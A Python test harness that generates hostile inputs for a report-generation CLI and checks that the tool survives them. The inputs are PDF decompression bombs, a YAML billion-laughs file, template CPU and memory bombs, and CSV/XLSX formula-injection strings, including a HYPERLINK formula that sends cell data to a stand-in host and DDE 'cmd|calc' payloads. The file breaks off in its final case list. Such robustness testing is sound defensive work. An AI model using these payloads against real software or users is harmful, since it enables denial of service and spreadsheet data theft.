"""Hostile inputs and careless commands, made at run time, and a runner that
executes one ``reportgen`` command in a child process and measures it.

Every case is a function ``case_NAME(tmp, scale)`` returning a :class:`Case`:
the command line, the exit status and message expected, the limits of peak
memory (VmHWM of the child) and wall time, the files that must come out
unchanged (inputs, the archive) and an optional extra check. ``scale`` is
``"test"`` (small enough for the test suite) or ``"bench"`` (the sizes of the
issue: a 4 GB stream bomb, a million rows…).

The same cases run against any checkout (``PYTHONPATH``), which is how
``benchmarks/bench_limits.py`` compares a commit with another.
"""
from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[2]
SEED = ROOT / "fixtures" / "seeds" / "000_1f102cd1bcb19e59.txt"
# The checkout whose reportgen makes the archives a case starts from (its schema must be one it knows).
CODE_ROOT = ROOT
MB = 1024 * 1024


@dataclass
class Case:
    name: str
    argv: list[str]
    rc: set[int]
    message: str | None = None          # expected (substring) on stderr or stdout
    mem_mb: int = 1024                  # peak memory allowed (VmHWM)
    seconds: float = 60.0               # wall time allowed
    protected: list[Path] = field(default_factory=list)  # must be unchanged afterwards
    check: Callable[["Outcome"], str | None] | None = None  # extra check: a failure text or None
    env: dict = field(default_factory=dict)
    stdin: bytes | None = None


@dataclass
class Outcome:
    case: Case
    rc: int | None                       # None: killed at the time limit
    seconds: float
    peak_mb: float | None
    stdout: str
    stderr: str
    clobbered: list[str]

    @property
    def hung(self) -> bool:
        return self.rc is None

    @property
    def crashed(self) -> bool:
        """A traceback, our catch-all 'không xử lý được đầu vào (Exception…)',
        a MemoryError or a signal."""
        return (self.rc is not None and (self.rc < 0 or self.rc in (70, 137))) or "Traceback" in self.stderr \
            or "không xử lý được đầu vào (" in self.stderr or "MemoryError" in self.stderr

    def problems(self) -> list[str]:
        c = self.case
        out = []
        if self.hung:
            out.append(f"hung (> {c.seconds:g} s)")
        elif self.rc not in c.rc:
            out.append(f"exit {self.rc}, expected {sorted(c.rc)}")
        if self.crashed:
            out.append("crash: " + (self.stderr.strip().splitlines() or [""])[-1][:200])
        if c.message and c.message not in self.stderr + self.stdout:
            out.append(f"message lacks {c.message!r}: {(self.stderr.strip() or self.stdout.strip())[:300]!r}")
        if self.peak_mb is not None and self.peak_mb > c.mem_mb:
            out.append(f"peak {self.peak_mb:.0f} MB > {c.mem_mb} MB")
        if self.seconds > c.seconds and not self.hung:
            out.append(f"took {self.seconds:.1f} s > {c.seconds:g} s")
        if self.clobbered:
            out.append("replaced " + ", ".join(self.clobbered))
        if c.check is not None and not self.hung:
            extra = c.check(self)
            if extra:
                out.append(extra)
        return out


_WRAPPER = r"""
import os, re, resource, sys
cap = int(os.environ.get("HOSTILE_AS_CAP") or 0)
if cap:
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
rc = 70
try:
    from reportgen.cli import main
    rc = main(sys.argv[1:])
except MemoryError:
    sys.stderr.write("MemoryError\n")
    rc = 137
except SystemExit as exc:
    rc = exc.code if isinstance(exc.code, int) else 2
finally:
    with open(os.environ["HOSTILE_HWM"], "w") as fh:
        fh.write(re.search(r"VmHWM:\s+(\d+)", open("/proc/self/status").read()).group(1))
sys.stdout.flush()
os._exit(rc)
"""


def _digest(path: Path) -> str | None:
    try:
        h = hashlib.sha256()
        with open(path, "rb") as fh:
            for chunk in iter(lambda: fh.read(1 << 20), b""):
                h.update(chunk)
        return h.hexdigest()
    except OSError:
        return None


def run_case(case: Case, code_root: Path = ROOT, cwd: Path | None = None, as_cap: int | None = None,
             timeout: float | None = None) -> Outcome:
    """Run the case's command with the code at ``code_root``; measure it."""
    before = {p: _digest(p) for p in case.protected}
    hwm = Path(cwd or "/tmp") / f".hwm-{os.getpid()}-{case.name}"
    env = {k: v for k, v in os.environ.items() if k not in ("REPORTGEN_DEBUG", "REPORTGEN_DB")}
    env.update({"PYTHONPATH": str(code_root), "HOSTILE_HWM": str(hwm), "HOSTILE_AS_CAP": str(as_cap or ""),
                "REPORTGEN_DB": "sqlite:////nonexistent/reportgen-hostile.sqlite3", **case.env})
    limit = timeout or case.seconds * 2 + 10
    start = time.monotonic()
    proc = subprocess.Popen([sys.executable, "-c", _WRAPPER, *case.argv], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=cwd,
                            start_new_session=True)
    try:
        out, err = proc.communicate(case.stdin, timeout=limit)
        rc = proc.returncode
    except subprocess.TimeoutExpired:
        import signal

        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
        rc = None
    seconds = time.monotonic() - start
    peak = None
    if hwm.exists():
        peak = int(hwm.read_text() or 0) / 1024
        hwm.unlink()
    clobbered = [p.name for p in case.protected if _digest(p) != before[p]]
    return Outcome(case, rc, seconds, peak, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"),
                   clobbered)


# --- PDF building blocks ----------------------------------------------------------------


def pdf_bytes(objects: list[bytes], root: int = 1, extra_trailer: bytes = b"") -> bytes:
    """A PDF from object bodies (numbered from 1) with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, extra_trailer, xref)
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def deflated_zeros(size: int) -> bytes:
    """``size`` zero bytes, deflated (about 1:1000), made in 1 MB steps."""
    comp = zlib.compressobj(9)
    block = bytes(MB)
    parts = [comp.compress(block) for _ in range(size // MB)]
    parts.append(comp.compress(bytes(size % MB)))
    parts.append(comp.flush())
    return b"".join(parts)


def page_pdf(content: bytes, *, size: tuple[int, int] = (595, 842), resources: bytes = b"<< >>",
             more: list[bytes] = ()) -> bytes:
    """One page whose content stream is ``content`` (already a stream body)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R /Resources %s >>"
            % (size[0], size[1], resources),
            content, *more]
    return pdf_bytes(objs)


# --- the cases ----------------------------------------------------------------------------


def case_pdf_stream_bomb(tmp: Path, scale: str) -> Case:
    size = 4096 * MB if scale == "bench" else 512 * MB
    path = tmp / "bom-luong.pdf"
    path.write_bytes(page_pdf(stream(b"/Filter /FlateDecode", deflated_zeros(size))))
    return Case("pdf_stream_bomb", ["verify", str(path)], {2}, "bom nén", mem_mb=400, seconds=30,
                protected=[path])


def case_pdf_huge_page(tmp: Path, scale: str) -> Case:
    """A 660-byte PDF: a 14.400-point page covered by a 1-pixel image, so it
    is taken for a scan and rendered for OCR."""
    image = stream(b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
                   b"/BitsPerComponent 8", b"\xff")
    content = stream(b"", b"q 14400 0 0 14400 0 0 cm /Im0 Do Q")
    path = tmp / "trang-khong-lo.pdf"
    path.write_bytes(page_pdf(content, size=(14400, 14400), resources=b"<< /XObject << /Im0 5 0 R >> >>",
                              more=[image]))
    return Case("pdf_huge_page", ["verify", str(path)], {2}, "đọc được nội dung", mem_mb=1024,
                seconds=120, protected=[path])


def case_pdf_cyclic_pages(tmp: Path, scale: str) -> Case:
    """A page tree whose second kid is its own parent, beside one empty page."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"]
    path = tmp / "cay-trang-vong.pdf"
    path.write_bytes(pdf_bytes(objs))
    return Case("pdf_cyclic_pages", ["verify", str(path)], {2}, "đọc được nội dung", mem_mb=400, seconds=30,
                protected=[path])


def noise_pdf(path: Path, pages: int, seed: int = 7) -> None:
    """Pages of random dots: a scan of nothing."""
    import random

    rng = random.Random(seed)
    w, h = 620, 877
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b""]
    kids = []
    for _ in range(pages):
        n = len(objs) + 1
        pixels = bytes(255 if rng.random() < 0.8 else 0 for _ in range(w * h))
        image = stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                       b"/BitsPerComponent 8 /Filter /FlateDecode" % (w, h), zlib.compress(pixels, 9))
        content = stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q")
        objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
                 b"/Resources << /XObject << /Im0 %d 0 R >> >> >>" % (n + 1, n + 2), content, image]
        kids.append(b"%d 0 R" % n)
    objs[1] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % pages
    path.write_bytes(pdf_bytes(objs))


def case_pdf_noise_scan(tmp: Path, scale: str) -> Case:
    """Pages of random dots under the default limits: the first three are seen
    not to be text (no blank rows between lines, specks everywhere) and the
    reading stops there, instead of minutes of OCR a page."""
    pages = 60 if scale == "bench" else 5
    path = tmp / "ban-quet-nhieu.pdf"
    noise_pdf(path, pages)
    return Case("pdf_noise_scan", ["verify", str(path)], {2}, "ocr_noise_pages", mem_mb=1024, seconds=60,
                protected=[path])


def case_yaml_alias_bomb(tmp: Path, scale: str) -> Case:
    """A 1 KB billion-laughs file whose bomb sits under a key the metadata uses."""
    lines = ['recipients:', '  - &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"  - &{cur} [" + ",".join(f"*{prev}" for _ in range(9)) + "]")
    meta = tmp / "bom.yaml"
    meta.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp / "du-thao.docx"
    return Case("yaml_alias_bomb", ["draft", str(SEED), "--meta", str(meta), "-o", str(out)], {2}, "YAML",
                mem_mb=400, seconds=30, protected=[meta],
                check=lambda o: "an output was written" if out.exists() else None)


def _template(path: Path, tag: str) -> Path:
    import docx

    document = docx.Document()
    document.add_paragraph("Mẫu thử")
    document.add_paragraph(tag)
    document.save(str(path))
    return path


def case_template_cpu(tmp: Path, scale: str) -> Case:
    tpl = _template(tmp / "mau-cpu.docx", "{{ 9**(9**9) }}")
    out = tmp / "ra-cpu.docx"
    return Case("template_cpu", ["draft", str(SEED), "--template", str(tpl), "-o", str(out)], {2}, "Mẫu",
                mem_mb=1024, seconds=40, protected=[tpl], env={"REPORTGEN_LIMITS": "template_seconds=10"},
                check=lambda o: "an output was written" if out.exists() else None)


def case_template_memory(tmp: Path, scale: str) -> Case:
    tpl = _template(tmp / "mau-bo-nho.docx", "{{ 'A' * 10**10 }}")
    out = tmp / "ra-bo-nho.docx"
    return Case("template_memory", ["draft", str(SEED), "--template", str(tpl), "-o", str(out)], {2}, "bộ nhớ",
                mem_mb=1024, seconds=60, protected=[tpl],
                check=lambda o: "an output was written" if out.exists() else None)


_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="Điểm" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
}


def _cell(ref: str, value) -> bytes:
    if isinstance(value, str):
        from xml.sax.saxutils import escape

        return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref.encode(), escape(value).encode())
    return b'<c r="%s"><v>%s</v></c>' % (ref.encode(), str(value).encode())


def write_xlsx(path: Path, rows) -> Path:
    """A one-sheet workbook streamed from ``rows`` (lists of str/numbers;
    a number given as ``("raw", "1E+300")`` is written as is into <v>)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in _XLSX_PARTS.items():
            zf.writestr(name, text)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                     b'spreadsheetml/2006/main"><sheetData>')
            buf = []
            for r, row in enumerate(rows, start=1):
                cells = []
                for c, value in enumerate(row):
                    ref = f"{chr(65 + c)}{r}"
                    if isinstance(value, tuple):
                        cells.append(b'<c r="%s"><v>%s</v></c>' % (ref.encode(), value[1].encode()))
                    else:
                        cells.append(_cell(ref, value))
                buf.append(b'<row r="%d">' % r + b"".join(cells) + b"</row>")
                if len(buf) >= 5000:
                    fh.write(b"".join(buf))
                    buf = []
            fh.write(b"".join(buf) + b"</sheetData></worksheet>")
    return path


def _score_rows(n: int):
    yield ["STT", "Tên đơn vị", "Công khai, minh bạch", "Tiến độ giải quyết", "Tổng điểm"]
    for i in range(1, n + 1):
        a, b = 10 + i % 8, 15 + i % 5
        yield [i, f"Xã số {i}", a, b, a + b]


def case_xlsx_many_rows(tmp: Path, scale: str) -> Case:
    n = 100_000 if scale == "bench" else 10_000
    path = write_xlsx(tmp / f"bang-{n}-dong.xlsx", _score_rows(n))
    return Case(f"xlsx_{n // 1000}k_rows", ["extract", str(path), "--format", "csv"], {0}, None, mem_mb=1536,
                seconds=300 if scale == "bench" else 60, protected=[path],
                check=lambda o: None if o.stdout.count("\n") >= n else f"only {o.stdout.count(chr(10))} lines")


def case_xlsx_million_rows(tmp: Path, scale: str) -> Case:
    n = 1_000_000 if scale == "bench" else 6_000
    path = write_xlsx(tmp / "bang-trieu-dong.xlsx", _score_rows(n))
    env = {} if scale == "bench" else {"REPORTGEN_LIMITS": "xlsx_rows=5000"}  # the default is 200.000 rows
    return Case("xlsx_over_row_limit", ["verify", str(path)], {2}, "xlsx_rows", mem_mb=1024,
                seconds=120 if scale == "bench" else 40, protected=[path], env=env)


def case_draft_input_over_limit(tmp: Path, scale: str) -> Case:
    """``draft --limit`` applies to the input it reads, as ``verify --limit`` does."""
    path = write_xlsx(tmp / "bang-60-dong.xlsx", _score_rows(60))
    out = tmp / "du-thao-60.docx"
    return Case("draft_input_over_limit", ["draft", str(path), "-o", str(out), "--limit", "xlsx_rows=40"], {2},
                "--limit xlsx_rows=", mem_mb=600, seconds=60, protected=[path],
                check=lambda o: "an output was written" if out.exists() else None)


def case_xlsx_bad_numbers(tmp: Path, scale: str) -> Case:
    rows = [["STT", "Tên đơn vị", "Công khai, minh bạch", "Tiến độ giải quyết", "Tổng điểm"],
            [1, "Sở Tư pháp", 10, 15, 25],
            [2, "Sở Y tế", ("raw", "1E+300"), 15, 25],
            [3, "Sở Xây dựng", ("raw", "NaN"), 14, 24],
            [4, "Sở Công Thương", 11, ("raw", "inf"), 24],
            [5, "Sở Nội vụ", "12345678901234567890123456", 12, 24]]
    path = write_xlsx(tmp / "so-hong.xlsx", rows)
    return Case("xlsx_bad_numbers", ["verify", str(path), "--format", "json"], {1, 3}, "NUMBER_UNREADABLE",
                mem_mb=600, seconds=30, protected=[path])


def case_text_26_digits(tmp: Path, scale: str) -> Case:
    text = SEED.read_text(encoding="utf-8")
    import re

    # the first score cell of the first table row: a 26-digit number instead
    m = re.search(r"\n(1\s*\t[^\n]*?\t)(\d+,\d+)", text)
    if m:
        text = text[:m.start(2)] + "12345678901234567890123456" + text[m.end(2):]
    path = tmp / "so-26-chu-so.txt"
    path.write_text(text, encoding="utf-8")
    return Case("text_26_digits", ["verify", str(path), "--format", "json"], {1, 3}, "NUMBER_UNREADABLE", mem_mb=600,
                seconds=60, protected=[path])


def docx_flood(path: Path, megabytes: int) -> Path:
    """A DOCX whose body is ``megabytes`` MB of text lines that never end a
    sentence (each continues the one before)."""
    line = "và các cơ quan đơn vị tiếp tục rà soát quy trình nội bộ theo hướng dẫn"
    para = ('<w:p><w:r><w:t xml:space="preserve">' + (line + " ") * 4 + "</w:t></w:r></w:p>").encode()
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/'
          'document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
          'main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", ct)
        zf.writestr("_rels/.rels", rels)
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org'
                     b'/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>B\xc3\x81O C\xc3\x81O</w:t></w:r></w:p>')
            written = 0
            block = para * 200
            while written < megabytes * MB:
                fh.write(block)
                written += len(block)
            fh.write(b"</w:body></w:document>")
    return path


def case_docx_flood(tmp: Path, scale: str) -> Case:
    mb = 24 if scale == "bench" else 6
    path = docx_flood(tmp / "van-ban-dai.docx", mb)
    return Case(f"docx_{mb}mb_text", ["verify", str(path)], {0, 1, 2, 3}, None, mem_mb=2048,
                seconds=240 if scale == "bench" else 90, protected=[path])


def case_dev_zero(tmp: Path, scale: str) -> Case:
    return Case("dev_zero", ["verify", "/dev/zero"], {2}, "không phải tệp thường", mem_mb=300, seconds=20)


def case_fifo(tmp: Path, scale: str) -> Case:
    path = tmp / "ong.txt"
    os.mkfifo(path)
    return Case("fifo", ["verify", str(path)], {2}, "không phải tệp thường", mem_mb=300, seconds=20)


def case_missing_db_history(tmp: Path, scale: str) -> Case:
    db = tmp / "go-nham.sqlite3"
    return Case("history_missing_db", ["archive", "history", "Sở Tư pháp", "--db", str(db)], {2}, "không có kho",
                mem_mb=300, seconds=30, check=lambda o: "the archive was created" if db.exists() else None)


def _imported_db(tmp: Path) -> Path:
    """An archive holding the seed (imported with the checkout under test)."""
    db = tmp / "kho.sqlite3"
    subprocess.run([sys.executable, "-m", "reportgen", "archive", "import", str(SEED), "--db", str(db)],
                   capture_output=True, env={**os.environ, "PYTHONPATH": str(CODE_ROOT)}, check=True, cwd=tmp)
    return db


def case_export_onto_db(tmp: Path, scale: str) -> Case:
    db = _imported_db(tmp)
    return Case("export_onto_archive", ["archive", "export", "--format", "csv", "-o", str(db), "--db", str(db)],
                {2}, "kho lưu trữ", mem_mb=400, seconds=30, protected=[db])


def case_export_onto_db_symlink(tmp: Path, scale: str) -> Case:
    db = _imported_db(tmp)
    link = tmp / "loi-tat.csv"
    link.symlink_to(db)
    return Case("export_onto_archive_symlink", ["archive", "export", "--format", "xlsx", "-o", str(link),
                                                "--db", str(db)], {2}, "kho lưu trữ", mem_mb=400, seconds=30,
                protected=[db])


def case_corrupt_db(tmp: Path, scale: str) -> Case:
    db = tmp / "hong.sqlite3"
    db.write_bytes(b"SQLite format 3\0" + os.urandom(4096))
    return Case("corrupt_archive", ["archive", "ranking", "2024", "--db", str(db)], {2}, "khôi phục",
                mem_mb=300, seconds=30, protected=[db])


def case_newer_schema(tmp: Path, scale: str) -> Case:
    db = _imported_db(tmp)
    import sqlite3

    conn = sqlite3.connect(db)
    with conn:
        conn.execute("UPDATE alembic_version SET version_num = '9999_from_the_future'")
    conn.close()  # the last connection folds the WAL into the file
    return Case("newer_archive_schema", ["archive", "ranking", "2024", "--db", str(db)], {2}, "nâng cấp",
                mem_mb=300, seconds=30, protected=[db])


def _draft_input(tmp: Path) -> Path:
    path = tmp / "bao-cao.docx"
    subprocess.run([sys.executable, "-m", "reportgen", "draft", str(SEED), "-o", str(path)], capture_output=True,
                   env={**os.environ, "PYTHONPATH": str(ROOT),
                        "REPORTGEN_DB": "sqlite:////nonexistent/x.sqlite3"}, check=True)
    return path


def case_draft_onto_input(tmp: Path, scale: str) -> Case:
    src = _draft_input(tmp)
    return Case("draft_onto_input", ["draft", str(src), "-o", str(src)], {2}, "trùng", mem_mb=600, seconds=60,
                protected=[src])


def case_draft_pdf_onto_input(tmp: Path, scale: str) -> Case:
    """``draft rep.pdf -o rep.docx --pdf``: the PDF output is the input."""
    src = tmp / "bao-cao.txt"
    src.write_bytes(SEED.read_bytes())
    pdf = tmp / "bc.pdf"
    pdf.write_bytes(page_pdf(stream(b"", b"BT /F1 12 Tf 72 720 Td (Bao cao) Tj ET"),
                             resources=b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"))
    return Case("draft_pdf_onto_input", ["draft", str(pdf), "-o", str(tmp / "bc.docx"), "--pdf"], {2}, "trùng",
                mem_mb=600, seconds=60, protected=[pdf])


def case_output_is_directory(tmp: Path, scale: str) -> Case:
    target = tmp / "ket-qua.docx"
    target.mkdir()
    return Case("output_is_directory", ["draft", str(SEED), "-o", str(target)], {2}, "thư mục", mem_mb=600,
                seconds=60)


def case_outdir_is_file(tmp: Path, scale: str) -> Case:
    target = tmp / "thu-muc.txt"
    target.write_text("x")
    return Case("outdir_is_file", ["draft", str(SEED), "--per-unit", "--outdir", str(target)], {2}, "thư mục",
                mem_mb=600, seconds=60, protected=[target])


def _units_text(tmp: Path, names: list[str]) -> Path:
    """The seed report with the first table's first unit names replaced."""
    import re

    text = SEED.read_text(encoding="utf-8")
    for n, name in enumerate(names, start=1):
        text = re.sub(rf"(?m)^({n}\t)[^\t\n]+(\t)", lambda m: m.group(1) + name + m.group(2), text, count=1)
    path = tmp / "don-vi.txt"
    path.write_text(text, encoding="utf-8")
    return path


def case_per_unit_folded_names(tmp: Path, scale: str) -> Case:
    names = ["Sở Tư pháp", "Sở Tư Pháp", "SỞ TƯ PHÁP", "Sở Tu phap", "Sở Tư phap"]
    src = _units_text(tmp, names)
    import re

    text = src.read_text(encoding="utf-8")  # rows 2-5 get row 1's scores: one rank, one file name
    first = re.search(r"(?m)^1\t[^\t\n]+(\t[^\n]*)$", text).group(1)
    for n in range(2, 6):
        text = re.sub(rf"(?m)^({n}\t[^\t\n]+)\t[^\n]*$", lambda m: m.group(1) + first, text, count=1)
    src.write_text(text, encoding="utf-8")
    outdir = tmp / "tung-don-vi"

    def check(o: Outcome) -> str | None:
        import re

        m = re.search(r"Đã soạn (\d+) thông báo", o.stdout)
        written = len(list(outdir.glob("*.docx"))) if outdir.is_dir() else 0
        if not m or int(m.group(1)) != written:
            return f"announced {m.group(1) if m else '?'}, written {written}"
        return None

    return Case("per_unit_folded_names", ["draft", str(src), "--per-unit", "--outdir", str(outdir)], {0}, None,
                mem_mb=600, seconds=60, protected=[src], check=check)


def case_per_unit_control_char(tmp: Path, scale: str) -> Case:
    src = _units_text(tmp, ["Sở Tư\x01 pháp\x0b", "Sở\x1b[31m Y tế"])
    outdir = tmp / "ky-tu-dieu-khien"

    def check(o: Outcome) -> str | None:
        import docx

        for path in sorted(outdir.glob("*.docx")) if outdir.is_dir() else ():
            try:
                docx.Document(str(path))
            except Exception as exc:  # Word would not open it either
                return f"{path.name} does not open: {type(exc).__name__}"
        return None

    return Case("per_unit_control_chars", ["draft", str(src), "--per-unit", "--outdir", str(outdir)], {0}, None,
                mem_mb=600, seconds=60, protected=[src], check=check)


def case_draft_control_chars(tmp: Path, scale: str) -> Case:
    """One draft (not per unit) of a report whose unit names hold control
    characters: the draft is written, opens, and names the unit without them."""
    src = _units_text(tmp, ["Sở Tư\x01 pháp\x0b", "Sở\x1b[31m Y tế"])
    out = tmp / "du-thao-ky-tu.docx"

    def check(o: Outcome) -> str | None:
        import docx

        try:
            document = docx.Document(str(out))
        except Exception as exc:  # Word would not open it either
            return f"{out.name} does not open: {type(exc).__name__}"
        names = {c.text for t in document.tables for r in t.rows for c in r.cells}
        return None if {"Sở Tư pháp", "Sở[31m Y tế"} <= names else "unit names not in the appendix as cleaned"

    return Case("draft_control_chars", ["draft", str(src), "-o", str(out)], {0}, "Đã soạn", mem_mb=600,
                seconds=60, protected=[src], check=check)


def case_csv_injection(tmp: Path, scale: str) -> Case:
    src = _units_text(tmp, ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)",
                            "-2+3", "\tSở Tư pháp"])
    import re

    def check(o: Outcome) -> str | None:
        bad = [line for line in o.stdout.splitlines()[1:]
               if re.search(r'(^|,)"?[=+@\t\r]', line) or re.search(r'(^|,)"?-2\+3', line)]
        return f"formula cells in CSV: {bad[:2]}" if bad else None

    return Case("extract_csv_injection", ["extract", str(src), "--format", "csv"], {0}, None, mem_mb=600,
                seconds=60, protected=[src], check=check)


def case_export_xlsx_injection(tmp: Path, scale: str) -> Case:
    src = _units_text(tmp, ['=HYPERLINK("http://x.example/","Bấm")', "=cmd|' /C calc'!A0"])
    db = tmp / "kho-tiem.sqlite3"
    subprocess.run([sys.executable, "-m", "reportgen", "archive", "import", str(src), "--db", str(db)],
                   capture_output=True, env={**os.environ, "PYTHONPATH": str(CODE_ROOT)}, cwd=tmp)
    out = tmp / "xuat.xlsx"

    def check(o: Outcome) -> str | None:
        from openpyxl import load_workbook

        if not out.exists():
            return "no export written"
        ws = load_workbook(out).active
        formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        return f"formula cells {formulas}" if formulas else None

    return Case("export_xlsx_injection", ["archive", "export", "--format", "xlsx", "-o", str(out), "--db", str(db)],
                {0}, None, mem_mb=600, seconds=60, protected=[db, src], check=check)


def case_import_folder_bad_file(tmp: Path, scale: str) -> Case:
    folder = tmp / "thu-muc-nhap"
    folder.mkdir()
    text = SEED.read_text(encoding="utf-8")
    (folder / "01-tot.txt").write_text(text, encoding="utf-8")
    (folder / "02-rac.pdf").write_bytes(b"%PDF-1.7\n" + os.urandom(2000))
    write_xlsx(folder / "03-so-hong.xlsx", [["STT", "Tên đơn vị", "Tổng điểm"], [1, "Sở Y tế", ("raw", "1E+300")],
                                            [2, "Sở Tư pháp", ("raw", "NaN")]])
    (folder / "04-tot.txt").write_text(text.replace("2024", "2023"), encoding="utf-8")
    db = tmp / "kho-thu-muc.sqlite3"

    def check(o: Outcome) -> str | None:
        if "04-tot.txt" not in o.stderr:
            return "the batch stopped before the last file"
        if "Đã nhập" not in o.stdout:
            return "no summary"
        return None

    return Case("import_folder_bad_file", ["archive", "import", str(folder), "--db", str(db)], {2}, "02-rac.pdf",
                mem_mb=600, seconds=120, check=check)


def case_wrong_password(tmp: Path, scale: str) -> Case:
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("dung-mat-khau")
    path = tmp / "khoa.pdf"
    with open(path, "wb") as fh:
        writer.write(fh)
    return Case("wrong_password", ["verify", str(path), "--password", "sai"], {2}, "mật khẩu đã nhập không đúng",
                mem_mb=300, seconds=30, protected=[path])


def case_umask(tmp: Path, scale: str) -> Case:
    out = tmp / "quyen.docx"

    def check(o: Outcome) -> str | None:
        mode = out.stat().st_mode & 0o777 if out.exists() else None
        return None if mode == 0o644 else f"mode {oct(mode) if mode is not None else None}, expected 0o644"

    return Case("output_mode_umask", ["draft", str(SEED), "-o", str(out)], {0}, None, mem_mb=600, seconds=60,
                check=check)


def case_broken_doc(tmp: Path, scale: str) -> Case:
    sys.path.insert(0, str(ROOT / "tests"))
    from cfb import make_ole

    path = tmp / "hong.doc"
    path.write_bytes(make_ole({"WordDocument": b"\xec\xa5" + os.urandom(1500), "1Table": os.urandom(600)}))
    return Case("broken_doc", ["verify", str(path)], {2}, None, mem_mb=600, seconds=120, protected=[path])


ALL = [case_pdf_stream_bomb, case_pdf_huge_page, case_pdf_cyclic_pages, case_pdf_noise_scan, case_yaml_alias_bomb,
       case_template_cpu, case_template_memory, case_xlsx_many_rows, case_xlsx_million_rows,
       case_draft_input_over_limit,
       case_xlsx_bad_numbers,
       case_text_26_digits, case_docx_flood, case_dev_zero, case_fifo, case_missing_db_history, case_export_onto_db,
